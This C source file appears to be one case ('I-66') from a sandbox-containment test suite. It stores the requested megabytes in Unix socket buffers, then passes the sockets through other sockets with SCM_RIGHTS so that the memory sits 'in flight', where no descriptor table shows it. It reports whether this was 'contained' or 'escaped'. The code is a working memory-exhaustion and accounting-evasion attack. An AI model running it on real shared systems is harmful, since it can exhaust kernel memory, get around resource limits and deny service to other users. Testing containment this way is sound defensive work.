// I-66: sockets with full queues that are themselves on their way through another socket: argv[1] MiB that no table of descriptors shows. argv[3]: before them
// lies a message that is longer than a look reads at once, with many descriptors.
#include "attack.h"

#include <sys/socket.h>

#define LONG_BYTES 30000
#define LONG_FDS 20

/* n times the same descriptor, with so many bytes. */
static bool send_with(int through, int fd, size_t n, size_t bytes) {
        static char data[LONG_BYTES];
        union {
                struct cmsghdr align;
                char bytes[CMSG_SPACE(LONG_FDS * sizeof(int))];
        } control = {};
        struct iovec v = {data, bytes};
        struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = CMSG_SPACE(n * sizeof(int))};
        struct cmsghdr *c = CMSG_FIRSTHDR(&m);

        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(n * sizeof(int));
        for (size_t i = 0; i < n; i++)
                memcpy(CMSG_DATA(c) + i * sizeof fd, &fd, sizeof fd);
        /* The kernel counts what is on its way for the user, other programs' too. */
        for (int i = 0; i < 1000; i++) {
                if (sendmsg(through, &m, MSG_DONTWAIT) == (ssize_t)bytes)
                        return true;
                if (errno != ETOOMANYREFS)
                        break;
                sleep_msec(10);
        }
        return false;
}

static bool send_away(int through, int fd) {
        bool sent = send_with(through, fd, 1, 1);

        if (sent)
                close(fd);
        return sent;
}

int main(int argc, char **argv) {
        size_t mib = (size_t)atoi(arg(argc, argv, 1)), got = 0;
        static char b[65536];
        int carrier[2] = {-1, -1};

        for (int i = 0; i < 20000 && got < mib << 20; i++) {
                int s[2];

                if (i % 100 == 0 && socketpair(AF_UNIX, SOCK_STREAM, 0, carrier) < 0)
                        contained("socketpair after %zu KiB", got >> 10);
                if (i % 100 == 0 && argc > 3 && !send_with(carrier[0], 0, LONG_FDS, LONG_BYTES))
                        contained("sendmsg after %zu KiB", got >> 10);
                if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, s) < 0)
                        contained("socketpair after %zu KiB", got >> 10);
                for (int k = 0; k < 2; k++)
                        for (ssize_t n; (n = write(s[k], b, sizeof b)) > 0;)
                                got += (size_t)n;
                for (int k = 0; k < 2; k++)
                        if (!send_away(carrier[0], s[k]))
                                contained("sendmsg after %zu KiB", got >> 10);
        }
        sleep_msec(argc > 2 ? atoi(argv[2]) : 0);
        escaped("%zu MiB in sockets that are on their way", got >> 20);
}
